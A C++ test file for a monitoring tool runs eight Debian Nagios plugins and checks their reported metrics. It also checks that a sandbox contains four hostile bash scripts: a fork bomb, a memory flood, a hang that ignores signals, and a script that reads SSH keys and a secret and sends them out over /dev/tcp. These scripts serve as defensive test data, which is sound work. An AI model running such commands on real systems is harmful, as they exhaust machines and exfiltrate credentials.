// The story of programs that others wrote: eight plugins of Nagios as Debian ships them, and four
// that mean harm.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/resource.h>
#include <sys/socket.h>

#include <mutex>

#include "scenarios/story.h"

namespace chela::test {
namespace {

constexpr const char* kFolder = "/usr/lib/nagios/plugins/";

// Listens on loopback and answers whoever comes with a page.
class Page {
 public:
  Page() : listener_(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    sockaddr_in at{};
    at.sin_family = AF_INET;
    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof at;
    if (bind(listener_, reinterpret_cast<sockaddr*>(&at), size) != 0 || listen(listener_, 16) != 0)
      std::abort();
    getsockname(listener_, reinterpret_cast<sockaddr*>(&at), &size);
    port = std::to_string(ntohs(at.sin_port));
    thread_ = std::thread([this] {
      for (int client = 0; (client = accept(listener_, nullptr, nullptr)) >= 0;) {
        {
          const std::lock_guard lock(mutex_);
          ++visits_;
        }
        hear(client);
        const std::string answer =
            "HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n";
        [[maybe_unused]] const auto sent = send(client, answer.data(), answer.size(), MSG_NOSIGNAL);
        shutdown(client, SHUT_WR);
        while (hear(client)) {  // up to its end: what is said may come in pieces
        }
        close(client);
      }
    });
  }
  ~Page() {
    shutdown(listener_, SHUT_RDWR);
    thread_.join();
    close(listener_);
  }
  // What was said to it so far, and how often somebody came.
  std::string heard() const {
    const std::lock_guard lock(mutex_);
    return heard_;
  }
  int visits() const {
    const std::lock_guard lock(mutex_);
    return visits_;
  }
  std::string port;

 private:
  // False at the end, or when nothing comes for half a second.
  bool hear(int client) {
    char bytes[4096];
    pollfd wait{client, POLLIN, 0};
    const ssize_t got = poll(&wait, 1, 500) > 0 ? read(client, bytes, sizeof bytes) : 0;
    if (got <= 0) return false;
    const std::lock_guard lock(mutex_);
    heard_.append(bytes, static_cast<std::size_t>(got));
    return true;
  }

  int listener_;
  mutable std::mutex mutex_;
  std::string heard_;
  int visits_ = 0;
  std::thread thread_;
};

class Nagios : public ::testing::Test {
 protected:
  void SetUp() override { desk_.without_builtins(); }

  // `words` as YAML list items; `allow` more grants.
  void add(const std::string& id, const std::string& words, const std::string& net = "",
           const std::string& allow = "", const std::string& config = "") const {
    const std::string program = words.substr(0, words.find(','));
    spill(desk_.manifest("checks", id),
          "id: " + id +
              "\nplugin: check.exec\nevery: 1h\ndeadline: 20s\nallow:\n  exec: [{program: " +
              program + ", net: [" + net + "]}]\n" + allow + "config:\n  command: [" + words +
              "]\n" + config);
  }

  Desk desk_;
};

TEST_F(Nagios, EightRealPluginsRunAndTheirNumbersAreInTheJson) {
  if (!fs::exists(std::string(kFolder) + "check_load")) {
    std::cerr << "\n*** NOT TESTED: real Nagios plugins want monitoring-plugins-basic (apt)\n\n";
    if (std::getenv("CI") != nullptr) FAIL() << "must be there in CI";
    GTEST_SKIP() << "monitoring-plugins-basic is not installed";
  }
  const Page page;
  const std::string net = "\"127.0.0.1:" + page.port + "\"";
  const auto plugin = [](const char* name) { return std::string(kFolder) + name; };
  spill(desk_.workspace() / "stamp", "fresh\n");
  add("load", plugin("check_load") + ", -w, \"900,900,900\", -c, \"999,999,999\"", "",
      "  read: [/proc/loadavg, /proc/uptime]\n");
  add("disk", plugin("check_disk") + ", -w, \"1%\", -c, \"0%\", -p, /", "",
      "  read: [/proc/mounts, /proc/self/mounts, /etc/mtab]\n");
  add("swap", plugin("check_swap") + ", -w, \"2%\", -c, \"1%\", -n, ok", "",
      "  read: [/proc/meminfo, /proc/swaps]\n");
  add("users", plugin("check_users") + ", -w, \"900\", -c, \"999\"", "", "  read: [/run]\n");
  add("stamp",
      plugin("check_file_age") + ", -w, \"9999\", -c, \"99999\", -f, \"" +
          (desk_.workspace() / "stamp").string() + "\"",
      "", "  read: [\"${workspace}\"]\n", "  folder: \"${workspace}\"\n");
  add("tcp", plugin("check_tcp") + ", -H, 127.0.0.1, -p, \"" + page.port + "\"", net);
  add("http", plugin("check_http") + ", -I, 127.0.0.1, -p, \"" + page.port + "\"", net);
  add("cluster", plugin("check_cluster") + ", -s, -l, web, -d, \"0,0,1\", -w, \"2\"");
  const auto tick = desk_.chela_json({"tick", "--all"});
  std::map<std::string, std::vector<std::string>> metrics;
  for (const auto& run : tick.at("runs").as_array()) {
    SCOPED_TRACE(json::serialize(run));
    EXPECT_EQ(get_string(run, "outcome"), "ok");
    EXPECT_EQ(get_string(run, "status"), "ok");
    auto& names = metrics[get_string(run, "check")];
    for (const auto& metric : run.at("metrics").as_array())
      names.push_back(get_string(metric, "name") + "[" + get_string(metric, "unit") + "]");
  }
  using Names = std::vector<std::string>;
  EXPECT_EQ(metrics.size(), 8u);
  EXPECT_EQ(metrics["load"], (Names{"load1[]", "load5[]", "load15[]"}));
  EXPECT_EQ(metrics["disk"], (Names{"/[bytes]"}));
  EXPECT_EQ(metrics["swap"], (Names{"swap[bytes]"}));
  EXPECT_EQ(metrics["users"], (Names{"users[]"}));
  EXPECT_EQ(metrics["stamp"], (Names{"age[seconds]", "size[bytes]"}));
  EXPECT_EQ(metrics["tcp"], (Names{"time[seconds]"}));
  EXPECT_EQ(metrics["http"], (Names{"time[seconds]", "size[bytes]"}));
  EXPECT_EQ(metrics["cluster"], Names{}) << "it has none";
  // And once more where people look later.
  const auto status = desk_.chela_json({"status"});
  for (const auto& check : status.at("checks").as_array()) {
    EXPECT_EQ(check.at("metrics").as_array().size(), metrics[get_string(check, "id")].size());
  }
}

TEST_F(Nagios, AServerThatIsNotGrantedIsNotReached) {
  if (!fs::exists(std::string(kFolder) + "check_tcp")) GTEST_SKIP() << "not installed";
  const Page page;
  add("tcp", std::string(kFolder) + "check_tcp, -H, 127.0.0.1, -p, \"" + page.port + "\"",
      "\"127.0.0.1:1\"");
  const auto tick = desk_.chela_json({"tick", "--all"});
  EXPECT_EQ(get_string(tick.at("runs").as_array().at(0), "status"), "crit");
  EXPECT_NE(json::serialize(tick).find("ermission denied"), std::string::npos)
      << json::serialize(tick);
}

// Each does harm where nothing holds it; the tick ends in time, the good check beside them is on
// time, and nothing of them is left.
TEST_F(Nagios, HostileProgramsAreContained) {
  const struct {
    const char* id;
    const char* script;
    const char* said;  // of "could not check" or of its status
  } programs[] = {
      {"bomb", "bomb() { bomb | bomb & }; bomb; sleep 60", ""},
      {"flood", "head -c 1000000000 /dev/zero; exit 1", ""},
      {"hang", "trap '' TERM INT HUP; while :; do sleep 60; done", "took longer than 3s"},
      {"thief",
       "cat \"$HOME/secret\" /root/.ssh/* SECRET 2>/dev/null; "
       "exec 9<>/dev/tcp/127.0.0.1/PORT && cat SECRET >&9; exit 2",
       ""},
  };
  const Page page, open_page;
  spill(desk_.home() / "secret", "canary-7391\n");
  for (const auto& one : programs) {
    std::string script = one.script;
    for (const auto& [word, text] :
         {std::pair<std::string, std::string>{"SECRET", (desk_.home() / "secret").string()},
          {"PORT", page.port}}) {
      for (auto at = script.find(word); at != std::string::npos; at = script.find(word))
        script.replace(at, word.size(), text);
    }
    add(one.id, "bash, -c, " + json::serialize(json::string(script)), "", "", "  timeout: 3s\n");
  }
  // The same with a server that it may reach: that it comes there shows that the script works.
  add("courier",
      "bash, -c, " + json::serialize(json::string(
                         "exec 9<>/dev/tcp/127.0.0.1/" + open_page.port + " && { echo came; cat " +
                         (desk_.home() / "secret").string() + "; } >&9; exit 2")),
      "\"127.0.0.1:" + open_page.port + "\"");
  add("good", "true");
  adopt_orphans();
  const auto begin = std::chrono::steady_clock::now();
  const auto outcome = desk_.chela({"tick", "--all"});
  const auto took = std::chrono::steady_clock::now() - begin;
  // The sum of all time limits; a bound against hanging for ever, not a measurement.
  EXPECT_LT(took, std::chrono::seconds(60));
  EXPECT_NE(outcome.err.find("took longer than 3s"), std::string::npos) << outcome.err;
  EXPECT_EQ((outcome.out + outcome.err).find("canary-7391"), std::string::npos);
  EXPECT_EQ(page.visits(), 0) << "it may reach no server";
  EXPECT_NE(open_page.heard().find("came"), std::string::npos) << outcome.err;
  EXPECT_EQ(open_page.heard().find("canary-7391"), std::string::npos) << "the secret was sent";
  rusage used{};
  getrusage(RUSAGE_CHILDREN, &used);
  EXPECT_LT(used.ru_maxrss, 600 * 1024) << "KiB, of the largest process";
  EXPECT_TRUE(all_children_end()) << "somebody stayed behind";
  const auto status = desk_.chela_json({"status"});
  for (const auto& check : status.at("checks").as_array()) {
    if (get_string(check, "id") != "good") continue;
    EXPECT_EQ(get_string(check, "state"), "ok");
  }
  for (const auto& file : files_like(desk_.root(), "")) {
    if (!fs::is_regular_file(file) || file.filename() == "secret") continue;
    EXPECT_EQ(slurp(file).find("canary-7391"), std::string::npos) << file;
  }
}

}  // namespace
}  // namespace chela::test
